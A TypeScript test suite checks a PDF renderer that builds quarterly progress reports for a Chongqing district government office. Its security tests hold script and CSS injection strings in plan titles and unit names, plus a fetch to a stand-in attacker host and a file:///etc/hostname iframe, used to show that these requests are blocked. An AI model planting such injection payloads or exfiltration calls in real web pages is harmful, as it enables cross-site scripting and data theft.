/** The printed package for the hand-made fixture, read back with poppler and pdfjs. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { buildQuarterReport } from "../reports/model/model.report";
import { documentTexts, PdfRenderer } from "../reports/pdf/renderer";
import { packagePlan, writeQuarterPackage, type PackageResult, type PrintJob } from "../reports/pdf/package";
import { ORIGIN } from "../reports/pdf/assets";
import { HANAZONO, missingFontProblem } from "../reports/pdf/fonts";
import { execFileSync } from "node:child_process";
import { requireProgram } from "./helpers/programs";
import { seedLedger } from "./fixtures/reports/ledger.seed";
import { summaryDocument } from "../reports/html/page.summary";
import { renderDocument } from "../reports/html/document";
import { scorecardsDocument } from "../reports/html/page.scorecard";
import { PageGroupError } from "../reports/pdf/page-groups";
import { HOSTILE, SMALL_AT, SMALL_SHA, smallLedger, smallScoresQ1, smallScoresQ2 } from "./fixtures/reports/ledger.small";
import { decodeGrayPng, encodeGrayPng, imageDifference, pageImage, pdfFonts, pdfInfo, pdfOutline, pdfPages, pdfText } from "./fixtures/reports/pdf-tools";

const RANKED = ["区城投集团", "区经济信息委", "区发展改革委", "区人力社保局", "区财政局", "屏锦镇"];
const flat = (s: string) => s.replace(/\s+/g, "");

let renderer: PdfRenderer;
let dir: string;
let zh: PackageResult;
let en: PackageResult;
/** Title, author, keywords, tagged, zh-CN: what every printed or joined PDF declares. */
async function expectDocumentInfo(f: string, title: string): Promise<void> {
  const info = pdfInfo(f);
  expect(info.Title).toBe(title);
  expect(info.Author).toBe("重庆市梁平区人民政府办公室");
  expect(info.Keywords).toContain("台账");
  expect(info.Tagged).toBe("yes");
  expect((await pdfOutline(f)).lang).toBe("zh-CN");
}
const file = (r: PackageResult, kind: string, unit?: string) => r.files.find((f) => f.kind === kind && (unit === undefined || f.unit === unit))!.path;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "pl-reports-"));
  renderer = await PdfRenderer.launch({ concurrency: 2 });
  const report = (lang: "zh" | "en") =>
    buildQuarterReport(smallLedger, [smallScoresQ1, smallScoresQ2], 2, { workbookSha256: SMALL_SHA, generatedAt: SMALL_AT, lang });
  zh = await writeQuarterPackage(report("zh"), renderer, { outDir: join(dir, "zh") });
  en = await writeQuarterPackage(report("en"), renderer, { outDir: join(dir, "en"), units: ["区财政局"] });
});

afterAll(async () => {
  await renderer?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe("quarterly summary PDF", () => {
  it("prints the fixture's figures, units and page numbers", () => {
    const f = file(zh, "summary");
    const text = flat(pdfText(f));
    for (const s of [
      "2023年第二季度目标任务推进情况报告",
      "重庆市梁平区人民政府办公室",
      "55.0%",
      "60.0%",
      "50.0%",
      "102.9%",
      "53.7%",
      "36.0%",
      "≥5,000人",
      "1,800人",
      "2,500人",
      "7.2%",
      "100.0",
      "88.0",
      "26.7",
      ...RANKED,
      SMALL_SHA,
      "2023年07月05日10:30",
    ]) {
      expect(text, s).toContain(flat(s));
    }
    const pages = pdfPages(f);
    const n = Number(pdfInfo(f).Pages);
    expect(pages).toHaveLength(n);
    expect(n).toBeGreaterThanOrEqual(6);
    // The cover has no margin boxes; every other page is numbered "第 N 页 / 共 M 页".
    expect(flat(pages[0]!)).not.toContain("第1页");
    for (let i = 2; i <= n; i++) expect(flat(pages[i - 1]!)).toContain(`第${i}页/共${n}页`);
  });

  it("lists lagging tasks with their problems, and the unreported task in the appendix", () => {
    const text = flat(pdfText(file(zh, "summary")));
    expect(text).toContain(flat("返乡务工人员减少，企业用工需求下降。"));
    expect(text).toContain(flat("举办专场招聘会，落实稳岗补贴。"));
    const appendix = text.slice(text.indexOf("附录一"));
    expect(appendix).toContain("深化政务公开");
    expect(text).toContain("任务!H4");
    expect(text).toContain("指标!H7");
  });

  it("prints a hostile narrative literally and loads nothing it names", () => {
    const text = flat(pdfText(file(zh, "summary")));
    expect(text).toContain(flat(HOSTILE));
    const hostname = readFileSync("/etc/hostname", "utf8").trim();
    if (hostname.length >= 6) expect(text).not.toContain(hostname);
    expect(renderer.blockedRequests.filter((u) => u.startsWith("file:") || !u.startsWith(ORIGIN))).toEqual([]);
  });

  it("has PDF metadata, zh-CN language, tags and section bookmarks", async () => {
    const f = file(zh, "summary");
    await expectDocumentInfo(f, "2023年第二季度目标任务推进情况报告");
    expect(pdfInfo(f).Subject).toContain("目标任务");
    const { outline } = await pdfOutline(f);
    expect(outline.map((o) => o.title)).toEqual([
      "一、总体情况",
      "二、分领域完成情况",
      "三、量化指标完成情况",
      "四、滞后及脱幅任务",
      "五、单位得分排名",
      "六、季度趋势",
      "附录一　未填报任务",
      "附录二　数据来源",
    ]);
  });
});

describe("fonts and text extraction", () => {
  it("embeds only subset TrueType Noto Sans SC, never Type 3", () => {
    for (const f of zh.files) {
      const fonts = pdfFonts(f.path);
      expect(fonts.length).toBeGreaterThan(0);
      for (const font of fonts) {
        expect(font.type, `${f.path}: ${font.name}`).not.toMatch(/Type 3/);
        expect(font.embedded && font.subset && font.unicode, font.name).toBe(true);
        expect(font.name).toMatch(/^[A-Z]{6}\+NotoSansSC/);
      }
    }
  });

  it("extracts no Kangxi or CJK radical look-alikes (U+2E80–U+2FDF)", () => {
    for (const f of [...zh.files, ...en.files]) expect(pdfText(f.path)).not.toMatch(/[\u2E80-\u2FDF]/);
  });

  it("embeds one Noto Sans SC font per weight in each printed PDF, served as one file per weight", () => {
    // The combined scorecards too: all units are one printed document (the units' PDFs are cut from it).
    for (const f of [...zh.files, ...en.files]) {
      const names = pdfFonts(f.path).map((font) => font.name.replace(/^[A-Z]{6}\+/, ""));
      expect(names.sort(), f.path).toEqual(["NotoSansSC-Bold", "NotoSansSC-Regular"]);
    }
    const noto = [...renderer.assets.fontRequests].filter((u) => u.includes("/noto-sans-sc-"));
    expect(noto.length).toBeGreaterThan(0);
    for (const u of noto) expect(u).toMatch(/^[0-9a-f]{16}\/noto-sans-sc-(400|700)\.ttf$/);
    expect([...renderer.assets.fontRequests].some((u) => /woff2$/.test(u) && u.startsWith("noto-sans-sc"))).toBe(false);
  });
});

describe("characters outside Noto Sans SC (CJK Extension B, rare BMP ideographs, emoji)", () => {
  // Task 5 (区人力社保局, 滞后 in Q2): its problems print in the summary and both narratives in its scorecard.
  const RARE = "𠀀𪚥"; // U+20000, U+2A6A5: Extension B
  const RARE_BMP = "䶮鿍"; // U+4DAE (Extension A), U+9FCD: not in Noto Sans SC's slices
  const EMOJI = "🚧";
  const PROBLEMS = `返乡务工人员减少${RARE}，企业用工需求下降。${EMOJI}刘${RARE_BMP}反映。`;
  const PROGRESS = `新建就业服务站${EMOJI}三处，${RARE}镇已开工。`;
  const rareLedger = {
    ...smallLedger,
    entries: smallLedger.entries.map((e) => (e.taskId === 5 && e.quarter === 2 ? { ...e, problems: PROBLEMS, progress: PROGRESS } : e)),
  };
  let rare: PackageResult;
  let rareRenderer: PdfRenderer;
  const isFallback = (f: string) => f.startsWith("HanaMin") || f.startsWith("noto-emoji-");

  // A renderer of its own, one page: each page decodes the whole HanaMinA/B files (22 and 31 MB),
  // many seconds on a busy machine, so a generous per-document timeout.
  beforeAll(async () => {
    rareRenderer = await PdfRenderer.launch({ concurrency: 1, timeoutMs: 300_000 });
    const report = buildQuarterReport(rareLedger, [smallScoresQ1, smallScoresQ2], 2, { workbookSha256: SMALL_SHA, generatedAt: SMALL_AT, lang: "zh" });
    rare = await writeQuarterPackage(report, rareRenderer, { outDir: join(dir, "rare"), units: ["区人力社保局"] });
  }, 600_000);
  afterAll(async () => {
    await rareRenderer?.close();
  });

  it("finds 𠀀, 𪚥, 䶮, 鿍 and 🚧 in the text of the summary and the scorecard", () => {
    for (const f of [file(rare, "summary"), file(rare, "scorecard", "区人力社保局")]) {
      const text = flat(pdfText(f));
      for (const c of ["𠀀", "𪚥", "䶮", "鿍", EMOJI]) expect(text, `${f}: ${c}`).toContain(c);
      expect(text).toContain(flat(PROBLEMS));
      expect(text).not.toMatch(/[\u2E80-\u2FDF]/);
    }
    expect(flat(pdfText(file(rare, "scorecard", "区人力社保局")))).toContain(flat(PROGRESS));
  });

  it("draws them with embedded subset TrueType fallbacks, never Type 3", () => {
    for (const f of rare.files) {
      const fonts = pdfFonts(f.path);
      for (const font of fonts) {
        expect(font.type, `${f.path}: ${font.name}`).not.toMatch(/Type 3/);
        expect(font.embedded && font.subset && font.unicode, font.name).toBe(true);
      }
    }
    const names = pdfFonts(file(rare, "scorecard", "区人力社保局")).map((f) => f.name.replace(/^[A-Z]{6}\+/, ""));
    expect(
      names.some((n) => n.startsWith("HanaMinA")),
      names.join(),
    ).toBe(true);
    expect(
      names.some((n) => n.startsWith("HanaMinB")),
      names.join(),
    ).toBe(true);
    expect(
      names.some((n) => /^NotoEmoji/.test(n)),
      names.join(),
    ).toBe(true);
  });

  it("fetches the fallback fonts from our origin only for the report that needs them", () => {
    expect([...renderer.assets.fontRequests].filter(isFallback)).toEqual([]); // the ordinary reports
    for (const f of HANAZONO.faces) expect(rareRenderer.assets.fontRequests).toContain(f.file);
    expect([...rareRenderer.assets.fontRequests].some((f) => f.startsWith("noto-emoji-"))).toBe(true);
    expect(rareRenderer.blockedRequests).toEqual([]);
  });

  it("names the missing file and the Debian package when a rare ideograph cannot print", () => {
    const problem = missingFontProblem([`<p>${PROBLEMS}</p>`], "/nonexistent");
    expect(problem).toContain("“𠀀”(U+20000)");
    expect(problem).toContain("/nonexistent/HanaMinB.ttf");
    expect(problem).toContain("fonts-hanazono");
    expect(missingFontProblem([`<p>刘${RARE_BMP}</p>`], "/nonexistent")).toContain("“䶮”(U+4DAE)，但缺少字体文件 /nonexistent/HanaMinA.ttf");
    // Ideographs Noto Sans SC draws and emoji never need fonts-hanazono.
    expect(missingFontProblem([`<p>${EMOJI}梁平区新增城镇就业5000人</p>`], "/nonexistent")).toBeNull();
    expect(missingFontProblem([`<p>${PROBLEMS}</p>`])).toBeNull();
  });
});

describe("unit scorecards", () => {
  it("has one combined PDF with one top-level bookmark per unit, in rank order", async () => {
    const combined = file(zh, "scorecards");
    const { outline, pages } = await pdfOutline(combined);
    expect(outline.map((o) => o.title)).toEqual(RANKED);
    // Each unit's own headings nest under it, each title once (Chromium once doubled them).
    expect(outline[0]!.items.map((o) => o.title)).toContain("量化指标");
    for (const o of outline.flatMap((x) => [x, ...x.items])) expect(o.title).not.toMatch(/^(.+)\1$/);
    const single = zh.files.filter((f) => f.kind === "scorecard");
    expect(single.map((f) => f.unit)).toEqual(RANKED);
    let sum = 0;
    for (const f of single) sum += Number(pdfInfo(f.path).Pages);
    expect(pages).toBe(sum);
  });

  it("prints each unit once: the combined PDF is the units' pages, each section numbered on its own", () => {
    const combined = pdfPages(file(zh, "scorecards")).map(flat);
    let at = 0;
    for (const unit of RANKED) {
      const own = pdfPages(file(zh, "scorecard", unit)).map(flat);
      own.forEach((page, i) => {
        expect(combined[at + i], `${unit} page ${i + 1}`).toBe(page);
        expect(page).toContain(`第${i + 1}页/共${own.length}页`);
      });
      at += own.length;
    }
    expect(at).toBe(combined.length);
    expect(zh.files.filter((f) => f.kind !== "scorecards")).toHaveLength(1 + RANKED.length);
  });

  it("keeps the combined PDF tagged (every unit's structure tree), with metadata and language", async () => {
    const f = file(zh, "scorecards");
    await expectDocumentInfo(f, "2023年第二季度单位评分卡");
    // poppler walks the joined structure tree: each unit's heading and table cells are in it.
    const struct = execFileSync(requireProgram("pdfinfo"), ["-struct-text", f], { encoding: "utf8" });
    for (const unit of RANKED) expect(flat(struct)).toContain(flat(unit));
    expect(struct.match(/\bTable\b/g)?.length ?? 0).toBeGreaterThanOrEqual(RANKED.length);
    const unitStruct = execFileSync(requireProgram("pdfinfo"), ["-struct", file(zh, "scorecard", "屏锦镇")], { encoding: "utf8" });
    const combinedStruct = execFileSync(requireProgram("pdfinfo"), ["-struct", f], { encoding: "utf8" });
    expect(combinedStruct.split("\n").length).toBeGreaterThan(unitStruct.split("\n").length * (RANKED.length - 1));
  });

  it("prints all units as one document: each unit's pages name it top right, numbered on their own", () => {
    const pages = pdfPages(file(zh, "scorecards")).map(flat);
    let at = 0;
    for (const unit of RANKED) {
      const count = Number(pdfInfo(file(zh, "scorecard", unit)).Pages);
      for (let i = 0; i < count; i++) {
        const head = pages[at + i]!.slice(0, 80);
        expect(head, `${unit} page ${i + 1}`).toContain(flat(unit));
        expect(pages[at + i]).toContain(`第${i + 1}页/共${count}页`);
      }
      at += count;
    }
    // The document-wide page counter is not what the margin boxes show.
    expect(pages.some((p) => p.includes(`共${pages.length}页`))).toBe(false);
  });

  it("prints alike in batches (several documents joined) and as one document", async () => {
    const report = buildQuarterReport(smallLedger, [smallScoresQ1, smallScoresQ2], 2, { workbookSha256: SMALL_SHA, generatedAt: SMALL_AT, lang: "zh" });
    expect(packagePlan(report, "all", 1).batches).toHaveLength(RANKED.length);
    const batched = await writeQuarterPackage(report, renderer, { outDir: join(dir, "batched"), batchChars: 1 });
    expect(batched.files.map((f) => [f.kind, f.unit])).toEqual(zh.files.map((f) => [f.kind, f.unit]));
    for (const [a, b] of batched.files.map((f, i) => [f.path, zh.files[i]!.path] as const)) expect(pdfPages(a)).toEqual(pdfPages(b));
    const { outline } = await pdfOutline(file(batched, "scorecards"));
    expect(outline.map((o) => o.title)).toEqual(RANKED);
    await expectDocumentInfo(file(batched, "scorecards"), "2023年第二季度单位评分卡");
    // The batches' own PDFs were joined and removed: the folder holds the package only.
    expect(readdirSync(join(dir, "batched")).sort()).toEqual(readdirSync(join(dir, "zh")).sort());
  });

  it("fails as a whole when a unit's PDF cannot be written while the next batch prints: the error, no batch part left behind", async () => {
    const report = buildQuarterReport(smallLedger, [smallScoresQ1, smallScoresQ2], 2, { workbookSha256: SMALL_SHA, generatedAt: SMALL_AT, lang: "zh" });
    const out = join(dir, "cut-fails");
    // A folder where the second batch's unit PDF goes: its cut fails while the third batch prints.
    mkdirSync(join(out, packagePlan(report, "all", 1).batches[1]!.units[0]!.name), { recursive: true });
    await expect(writeQuarterPackage(report, renderer, { outDir: out, batchChars: 1 })).rejects.toThrow(/EISDIR/);
    expect(readdirSync(out).filter((f) => f.startsWith(".scorecards-part"))).toEqual([]);
  });

  it("refuses a document whose bookmarks are not its page groups' headings", async () => {
    const report = buildQuarterReport(smallLedger, [smallScoresQ1, smallScoresQ2], 2, { workbookSha256: SMALL_SHA, generatedAt: SMALL_AT, lang: "zh" });
    const doc = scorecardsDocument(report.scorecards.slice(0, 2));
    const wrong = renderDocument({ ...doc, groups: doc.groups!.map((g, i) => (i === 1 ? { ...g, bookmark: "别的单位" } : g)) });
    await expect(renderer.render(wrong, { title: "t", author: "a", subject: "s", keywords: "k", lang: "zh-CN" })).rejects.toThrow(PageGroupError);
    await expect(renderer.render(wrong, { title: "t", author: "a", subject: "s", keywords: "k", lang: "zh-CN" })).rejects.toThrow(/别的单位/);
  });

  it("writes one PDF per unit with its score, rank and page numbers", () => {
    const f = file(zh, "scorecard", "区经济信息委");
    expect(f.endsWith("区经济信息委.pdf")).toBe(true);
    const pages = pdfPages(f);
    const text = flat(pages.join(""));
    for (const s of ["区经济信息委", "88.0", "第2名/共5个", "上季度第3名", "新建5G基站", "120个", "60.0%", "推进智能制造"]) expect(text).toContain(flat(s));
    expect(flat(pages[0]!)).toContain(`第1页/共${pages.length}页`);
    expect(pdfInfo(f).Title).toContain("区经济信息委");
  });
});

describe("English", () => {
  it("renders the same report in English", () => {
    const f = file(en, "summary");
    const text = flat(pdfText(f));
    for (const s of ["Progress Report on Target Tasks, Q2 2023", "Overview", "Completion by section", "55.0%", "Behind pace", "区财政局", "Page 2 of"]) {
      expect(text).toContain(flat(s));
    }
    expect(text).not.toContain("总体情况");
    expect(en.files.filter((x) => x.kind === "scorecard").map((x) => x.unit)).toEqual(["区财政局"]);
    expect(pdfInfo(f).Title).toBe("Progress Report on Target Tasks, Q2 2023");
  });
});

describe("print layout", () => {
  it("draws charts at devicePixelRatio 2 (≈192 ppi), pages not shrunk to fit (zh and en)", () => {
    const list = [...zh.files, ...en.files]
      .map((f) => f.path)
      .flatMap((f) =>
        execFileSync(requireProgram("pdfimages"), ["-list", f], { encoding: "utf8" })
          .split("\n")
          .slice(2)
          .filter((l) => /\bimage\b/.test(l)),
      );
    expect(list.length).toBeGreaterThanOrEqual(6); // summaries: sections chart, two trend charts; a chart per scorecard
    for (const line of list) {
      const cols = line.trim().split(/\s+/);
      const [width, xppi] = [Number(cols[3]), Number(cols[12])];
      expect([1320, 640, 500]).toContain(width); // 660, 320 or 250 CSS px × 2
      // 192 ppi exactly unless Chromium scaled the whole document down (content wider than the page).
      expect(xppi).toBeGreaterThan(188);
      expect(xppi).toBeLessThan(196);
    }
  });

  it("repeats table headers on continuation pages of a long table (seed-sized ledger)", async () => {
    const { ledger, scores } = seedLedger(2);
    const report = buildQuarterReport(ledger, scores, 2, { workbookSha256: SMALL_SHA, generatedAt: SMALL_AT, lang: "zh" });
    const doc = summaryDocument(report.summary);
    const f = join(dir, "seed-summary.pdf");
    writeFileSync(
      f,
      await renderer.render(renderDocument(doc), { title: doc.title, author: doc.author, subject: doc.subject, keywords: doc.keywords, lang: "zh-CN" }),
    );
    const pages = pdfPages(f).map(flat);
    const targetPages = pages.filter((p) => p.includes("年度目标序时目标实际完成"));
    const rows = report.summary.targets.length;
    expect(rows).toBeGreaterThan(40);
    expect(targetPages.length).toBeGreaterThan(1); // the targets table spans pages, its header on each
    // Every target id is printed exactly once in the targets chapter: no row is lost or split in two.
    const chapter = pages
      .slice(
        pages.findIndex((p) => p.includes("三、量化指标完成情况")),
        pages.findIndex((p) => p.includes("四、滞后及脱幅任务")),
      )
      .join("");
    for (const t of report.summary.targets.slice(0, 20)) expect(chapter).toContain(flat(t.name).slice(0, 4));
    expect(pages.at(-1)).toContain(`第${pages.length}页/共${pages.length}页`);
  });

  it("recycles pooled pages after a number of documents", async () => {
    const small = await PdfRenderer.launch({ concurrency: 1, recycleAfter: 2 });
    try {
      const report = buildQuarterReport(smallLedger, [smallScoresQ1, smallScoresQ2], 2, { workbookSha256: SMALL_SHA, generatedAt: SMALL_AT, lang: "zh" });
      const res = await writeQuarterPackage(report, small, { outDir: join(dir, "recycle"), units: ["区财政局", "屏锦镇", "区城投集团"] });
      expect(res.files).toHaveLength(5);
      // 2 documents printed (the summary; the 3 scorecards as one, cut into the units' PDFs), the
      // page recycled after them; then 2 more: the page opened again.
      expect(small.pagesOpened).toBe(1);
      await writeQuarterPackage(report, small, { outDir: join(dir, "recycle2"), units: ["区财政局"] });
      expect(small.pagesOpened).toBe(2);
    } finally {
      await small.close();
    }
  });

  it("prints a document alike on a fresh page, on a page reused after another document, and on a recycled page", async () => {
    const pool = await PdfRenderer.launch({ concurrency: 1, recycleAfter: 3 });
    try {
      const report = buildQuarterReport(smallLedger, [smallScoresQ1, smallScoresQ2], 2, { workbookSha256: SMALL_SHA, generatedAt: SMALL_AT, lang: "zh" });
      const plan = packagePlan(report, ["区财政局"]);
      const summary = plan.summary;
      const card: PrintJob = { kind: "scorecard", name: "card.pdf", doc: plan.batches[0]!.doc, metadata: plan.batches[0]!.metadata };
      await pool.prepareFonts([summary!, card!].flatMap((j) => documentTexts(j.doc)));
      const print = async (name: string, j: PrintJob) => {
        const f = join(dir, name);
        writeFileSync(f, await pool.render(j.doc, j.metadata));
        return f;
      };
      const fresh = await print("fresh.pdf", card!); // a new page's first document
      await print("between.pdf", summary!); // another document, its charts and text, swapped in
      const reused = await print("reused.pdf", card!); // the same page's third document: then it is recycled
      const recycled = await print("recycled.pdf", card!); // a new page
      expect(pool.pagesOpened).toBe(2);
      const fonts = (f: string) => pdfFonts(f).map((r) => `${r.name.replace(/^[A-Z]{6}\+/, "")} ${r.type}`);
      const pages = pdfPages(fresh);
      expect(pages.length).toBeGreaterThan(0);
      for (const f of [reused, recycled]) {
        expect(pdfPages(f)).toEqual(pages);
        expect(fonts(f)).toEqual(fonts(fresh));
        for (let p = 1; p <= pages.length; p++) expect(imageDifference(pageImage(f, p, 60), pageImage(fresh, p, 60), 0)).toBe(0);
      }
    } finally {
      await pool.close();
    }
  });
});

describe("security of the page", () => {
  it("prints hostile plan titles and unit names literally, in the body, the charts' data and the margin boxes", async () => {
    const title = `梁平"</style><script>alert(1)</script>方案\\`;
    const evilUnit = `区"</script><img src=x>局`;
    const swap = (s: string) => (s === "区财政局" ? evilUnit : s);
    const plan = {
      ...smallLedger.plan,
      meta: { ...smallLedger.plan.meta, title, issuer: `办公室'"; } @page { margin: 0 } x{` },
      tasks: smallLedger.plan.tasks.map((t) => ({ ...t, lead: t.lead.map(swap), responsible: t.responsible.map(swap) })),
      units: smallLedger.plan.units.map((u) => ({ ...u, name: swap(u.name) })),
    };
    const scores = [smallScoresQ1, smallScoresQ2].map((q) => ({ ...q, units: q.units.map((u) => ({ ...u, unit: swap(u.unit) })) }));
    const report = buildQuarterReport({ ...smallLedger, plan }, scores, 2, { workbookSha256: SMALL_SHA, generatedAt: SMALL_AT, lang: "zh" });
    const before = renderer.blockedRequests.length;
    const res = await writeQuarterPackage(report, renderer, { outDir: join(dir, "hostile"), units: [evilUnit] });
    const summary = pdfPages(file(res, "summary")).map(flat);
    expect(summary.join("")).toContain(flat(title));
    // The issuer is the running header (top-right margin box) of every page after the cover.
    expect(summary[1]).toContain(flat(`办公室'"; } @page { margin: 0 } x{`));
    const card = file(res, "scorecard");
    expect(card).toMatch(/区_script_img_src=x_局\.pdf$/);
    expect(flat(pdfText(card))).toContain(flat(evilUnit));
    expect(renderer.blockedRequests.slice(before)).toEqual([]);
  });

  it("aborts requests to any other origin and records them", async () => {
    const before = renderer.blockedRequests.length;
    const files = {
      // Deliberately without CSP, to exercise the interception layer on its own.
      "index.html": {
        body: `<!DOCTYPE html><html><body><img src="https://example.com/pixel.png"><iframe src="file:///etc/hostname"></iframe><p>x</p></body></html>`,
        contentType: "text/html",
      },
      "page.css": { body: "", contentType: "text/css" },
    };
    const frameText = await renderer.withPage(files, async (page) => {
      await page.evaluate(() => fetch("https://attacker.example.net/leak").catch(() => null));
      await expect(page.goto("https://example.org/")).rejects.toThrow();
      return page.frames().map((fr) => fr.url());
    });
    const blocked = renderer.blockedRequests.slice(before);
    expect(blocked).toContain("https://example.com/pixel.png");
    expect(blocked).toContain("https://attacker.example.net/leak");
    expect(blocked).toContain("https://example.org/");
    expect(frameText.some((u) => u.startsWith("file:"))).toBe(false);
  });
});

describe("page images", () => {
  const REF = join(__dirname, "reference-images");
  const cases = [
    { name: "summary-cover.png", pick: () => file(zh, "summary"), page: 1 },
    { name: "scorecard-page1.png", pick: () => file(zh, "scorecard", "区经济信息委"), page: 1 },
  ];
  for (const c of cases) {
    it(`matches the committed reference ${c.name}`, () => {
      const img = pageImage(c.pick(), c.page, 40);
      const ref = join(REF, c.name);
      // Regenerate after an intended layout change: UPDATE_REFERENCE_IMAGES=1 npx vitest run test/reports.pdf.test.ts
      if (process.env.UPDATE_REFERENCE_IMAGES === "1") writeFileSync(ref, encodeGrayPng(img));
      expect(existsSync(ref), `missing reference ${ref}`).toBe(true);
      const expected = decodeGrayPng(readFileSync(ref));
      expect([img.width, img.height]).toEqual([expected.width, expected.height]);
      expect(imageDifference(img, expected)).toBeLessThan(0.004);
    });
  }
});
